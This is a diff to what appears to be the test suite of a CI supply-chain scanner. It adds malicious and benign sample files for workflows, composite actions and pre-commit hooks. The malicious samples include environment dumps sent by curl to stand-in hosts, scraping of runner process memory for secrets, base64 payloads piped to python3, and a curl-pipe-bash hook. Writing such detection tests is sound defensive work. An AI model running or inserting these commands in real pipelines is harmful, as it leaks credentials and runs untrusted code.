@@ -1,4 +1,4 @@
-from _kit import fires, silent, sample, ref
+from _kit import crlf, fires, ref, sample, silent
 
 BENIGN_WORKFLOW = """name: CI
 on: [push, pull_request]
@@ -49,3 +49,56 @@ fires("cloud_json_blob", "worm_secret_dump_file", "critical",
 silent("environment_json_config", "worm_secret_dump_file",
        sample("environment.json", '{\n  "name": "staging",\n  "apiBase": "https://api.staging.example.com",\n  "features": ["search", "billing"]\n}\n'),
        "config/environment.json")
+
+# --- secrets joined and sent, runner memory, decoded steps ------------------------------------------------
+fires("workflow_env_dump_sent_crlf", "workflow_exfiltrates_secrets", "critical",
+      sample("env-dump.yml", crlf("name: Release\non: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    steps:\n"
+                                  "      - run: |\n          printenv | base64 -w0 > env.txt\n"
+                                  "          curl -s --data-binary @env.txt https://metrics.example-cdn.net/v1/ingest\n"),
+             binary=True),
+      ".github/workflows/release.yml")
+silent("workflow_commented_webhook", "workflow_exfiltrates_secrets",
+       sample("commented-webhook.yml", "name: Notify\non: push\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n"
+              "      # Debugging once used: curl -d @out.json https://webhook.site/2c1f and ${{ toJSON(secrets) }}\n"
+              "      - run: echo \"deployed ${{ github.sha }}\"\n"),
+       ".github/workflows/notify.yml")
+fires("action_runner_memory", "ci_reads_runner_memory", "critical",
+      sample("action-memdump.yml", "name: Changed files\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
+             "        pid=$(pgrep -f Runner.Worker)\n"
+             "        sudo dd if=/proc/$pid/mem bs=1M 2>/dev/null | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u\n"),
+      ".github/actions/changed-files/action.yml")
+silent("action_reads_cpuinfo", "ci_reads_runner_memory",
+       sample("action-cpuinfo.yml", "name: Machine info\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n"
+              "        grep -c processor /proc/cpuinfo\n        cat /proc/meminfo | head -3\n        echo \"runner: $RUNNER_NAME\"\n"),
+       ".github/actions/info/action.yml")
+fires("workflow_step_base64_python", "ci_step_decodes_and_runs", "critical",
+      sample("decode-run.yml", "name: Lint\non: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
+             "      - run: echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ== | base64 -d | python3\n"),
+      ".github/workflows/lint.yml")
+silent("workflow_step_decodes_certificate", "ci_step_decodes_and_runs",
+       sample("decode-cert.yml", "name: Sign\non: push\njobs:\n  sign:\n    runs-on: macos-latest\n    steps:\n"
+              "      - run: echo \"$P12_BASE64\" | base64 --decode > cert.p12 && security import cert.p12 -P \"$P12_PASSWORD\"\n"),
+      ".github/workflows/sign.yml")
+
+# --- pre-commit local hooks -------------------------------------------------------------------------------
+fires("precommit_local_curl", "precommit_hook_runs_payload", "critical",
+      sample("pre-commit-curl.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: fmt\n        name: fmt\n"
+             "        entry: bash -c 'curl -fsSL https://hooks.example.dev/fmt | bash'\n        language: system\n"),
+      ".pre-commit-config.yaml")
+silent("precommit_local_lint", "precommit_hook_runs_payload",
+       sample("pre-commit-local.yaml", "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n"
+              "    hooks:\n      - id: trailing-whitespace\n  - repo: local\n    hooks:\n      - id: eslint\n        name: eslint\n"
+              "        entry: npx eslint --fix\n        language: system\n        types: [javascript]\n"),
+       ".pre-commit-config.yaml", also="precommit_local_hook")
+fires("precommit_local_warns", "precommit_local_hook", "warning", ref("pre-commit-local.yaml"), ".pre-commit-config.yaml")
+silent("precommit_remote_only", "precommit_local_hook",
+       sample("pre-commit-remote.yaml", "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.8.0\n    hooks:\n      - id: black\n"),
+       ".pre-commit-config.yaml")
+fires("action_secrets_double_base64", "workflow_exfiltrates_secrets", "critical",
+      sample("action-double-b64.yml", "name: Lint changed\nruns:\n  using: composite\n  steps:\n    - shell: bash\n"
+             "      run: echo \"${{ github.token }}\" | base64 -w 0 | base64 -w 0\n"),
+      ".github/actions/lint/action.yml")
+silent("workflow_env_sorted_for_debugging", "workflow_exfiltrates_secrets",
+       sample("env-debug.yml", "name: Debug\non: workflow_dispatch\njobs:\n  debug:\n    runs-on: ubuntu-latest\n    steps:\n"
+              "      - run: env | sort\n      - run: curl -s -X POST -d '{\"text\":\"debug run\"}' \"$SLACK_URL\"\n"),
+       ".github/workflows/debug.yml")
